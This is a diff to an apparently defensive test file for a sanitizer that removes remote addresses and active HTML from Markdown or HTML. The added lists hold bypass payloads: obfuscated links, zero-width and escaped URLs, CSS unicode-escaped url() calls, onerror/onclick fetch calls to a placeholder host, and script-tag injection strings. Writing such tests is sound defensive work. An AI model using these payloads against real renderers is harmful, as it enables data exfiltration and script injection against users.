@@ -41,9 +41,26 @@ f"https://docs.example\\@{HOST}/S", f"https://docs.example.{HOST}/S", f"https://
     f"<video poster=//{HOST}/S>", f"<table background=//{HOST}/S>", f"<img src=x onerror=\"fetch('//{HOST}/S')\">",
     "<img src=x onerror=alert(S)>",
     f"<p style=\"background:url('&#47;&#47;{HOST}/S')\">", f"<a\thref=http://{HOST}/S>x",
+    # what one reader takes for a tag, another for text; what is written over the lines of a quotation; Markdown's escapes in an address
+    f"![a][r]\n\n> [r]:\n> //{HOST}/S", f"> ![a](\n> //{HOST}/S)", f"> > ![a](\n> > <//{HOST}/S>)",
+    f"<i? style='background:url(//{HOST}/S)'>", f"<i, onclick=fetch('//{HOST}/S')>",
+    f"<p style=\"b:\\75rl(\\68ttps\\3a\\2f {HOST}\\2fS)\">",
+    f"<b www.{HOST}/S>", f'<b "> www.{HOST}/S ">', f"\\<b t='www.{HOST}/S'>", f"<b t='\n\n![a][r]\n\n[r]:https:{HOST}/S'>",
+    f"<https:{HOST}/'S>", f"<!-- <img src=//{HOST}/S>", f"https:\\/\\/{HOST}/S", f"https:/\\/{HOST}/S", f"https\\://{HOST}/S",
+    f"https:\u200b//{HOST}/S", f"www\\.{HOST}/S", f"www\u200b.{HOST}/S", f"www.-x.{HOST}/S", f"www.%65vil.example@{HOST}/S",
+    f"[a](/\t/{HOST}/S)", f"[a](http`:`//{HOST}/S)",
 ]  # fmt: skip
-BROKEN = [f"https://docs.example'.{HOST}/S", f"<img src=//{HOST}/S"]  # what is left of them is no address and no tag
+BROKEN = [  # what is left of them is no address and no tag
+    f"https://docs.example'.{HOST}/S", f"<img src=//{HOST}/S", f"> <img\n> src=//{HOST}/S>", f"[a](/\n/{HOST}/S)",
+    f"<p a\" c=\"d>\" style=\"background:url(//{HOST}/S)\">", f"<table a\" c=\"d>\" background=//{HOST}/S>",
+    f"https://docs.example\xa0@{HOST}/S", f"http://<@{HOST}/S",
+]  # fmt: skip
 ACTIVE = [
+    "<o <script>S</script>",
+    "x <!-- <script>S</script>",
+    '`x <b t="`<script>S</script>">',
+    '<b t="\n<script>S</script>">',
+    '<b "<script>">',
     "<script>S</script>",
     "<style>b{background:url(//x)}</style>",
     "<iframe src=x>",
@@ -58,7 +75,9 @@ PLAIN = [
     "f[i](a, b)", "`a//b` // comment", "and/or", "List<String> x", "[text](#part)", "![p](image.png)", "<br/>", "12:30", "a::b", "www",
     "e.g. www or",
     "[ref]: note", "&lt;b&gt; &amp; &nbsp;", "{'a': [1, 2]}", "C:\\path\\x", "<p class=\"md:flex\" style=\"color:red\">",
-    "std::vector<int>",
+    "std::vector<int>", "map<string, int> m", "for(i=0;i<n;i++) {", "a<b, c", "http://<host>:80/x", "www.", "(www.)",
+    "c:\\/x", "<!-- note -->",
+    "<p\n  class=\"a\" id=b>", "f[i](lambda x: y)", "[a](b 'title')", "<b>x</b> <hr />", "> quoted [a](b)\n> more",
 ]  # fmt: skip
 KEPT = [
     "https://docs.example/a?b=c#d", "[a](https://docs.example/x)", "![a](http://docs.example/x.png 'title')", "<https://docs.example/>",
